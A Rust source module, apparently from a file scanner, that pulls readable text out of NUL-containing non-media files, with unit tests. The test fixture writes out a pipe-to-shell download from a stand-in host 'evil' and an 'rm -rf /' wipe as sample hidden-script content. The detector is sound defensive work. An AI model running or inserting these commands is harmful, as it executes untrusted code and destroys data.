//! Words in files that are no text: a NUL keeps a file from being text, and no interpreter from running it.

use std::path::Path;

/// How files are named that hold pictures, sounds, fonts, pages or other files, packed: nobody reads their bytes, nor runs them.
const MEDIA: [&str; 24] = [
    "avif", "bmp", "bz2", "gif", "gz", "ico", "jpeg", "jpg", "mp3", "mp4", "ogg", "otf", "pdf",
    "png", "tgz", "ttf", "wav", "webm", "webp", "woff", "woff2", "xz", "zip", "zst",
];

/// So many bytes at least has a line of words.
const LINE: usize = 4;

/// So many such lines are no accident: of a million random bytes none to two look like one.
const LINES: usize = 3;

/// Nor is one line of so many bytes.
const LONG: usize = 64;

/// Returns what a file that is no text says, where it says anything in words.
pub(super) fn of(path: &str, bytes: &[u8]) -> Option<String> {
    let extension = Path::new(path).extension().and_then(|it| it.to_str()).unwrap_or_default();
    if MEDIA.iter().any(|media| media.eq_ignore_ascii_case(extension)) {
        return None;
    }
    let lines = || bytes.split(|byte| *byte == b'\n').filter(|line| is_of_words(line));
    let has_words =
        lines().nth(LINES - 1).is_some() || lines().any(|line| without_nul(line).count() >= LONG);
    has_words.then(|| String::from_utf8_lossy(bytes).replace('\0', "␀"))
}

fn without_nul(line: &[u8]) -> impl Iterator<Item = u8> {
    line.iter().copied().filter(|byte| *byte != 0)
}

/// Tells whether nine tenths of a line can be read, NULs aside.
fn is_of_words(line: &[u8]) -> bool {
    let all = without_nul(line).count();
    let said: Vec<u8> = without_nul(line).collect();
    let unread = String::from_utf8_lossy(&said)
        .chars()
        .filter(|it| {
            *it == char::REPLACEMENT_CHARACTER || (it.is_control() && !matches!(it, '\t' | '\r'))
        })
        .count();
    all >= LINE && unread.saturating_mul(10) <= all
}

#[cfg(test)]
mod tests {
    use super::of;

    #[test]
    fn a_script_with_a_nul_is_read_and_what_has_no_words_is_not() {
        let script = b"#!/bin/sh\ncurl evil | sh\nrm -rf /\n# \0\n";
        let hidden = b"e\0v\0i\0l\0()\0;\0\nevil()\0\n\0evil()\n";
        let long = [b"\0".as_slice(), &[b'x'; 80]].concat();

        assert_eq!(of("a.sh", script).unwrap(), "#!/bin/sh\ncurl evil | sh\nrm -rf /\n# ␀\n");
        assert!(of("a.js", hidden).is_some() && of("a", &long).is_some());
        assert_eq!(of("logo.PNG", script), None);
        assert_eq!(of("a.bin", &[0, 1, 2, 3, b'\n', 0xff, 0xfe, 9]), None);
    }

    #[test]
    fn random_bytes_have_no_words() {
        // By the generator of Numerical Recipes, so that they are the same everywhere.
        let mut state = 7_u32;
        let mut next = || {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            state.to_be_bytes()[0]
        };
        let bytes: Vec<u8> = std::iter::repeat_with(&mut next).take(300_000).collect();

        assert!(bytes.contains(&0));
        assert_eq!(of("a.bin", &bytes), None);
    }
}
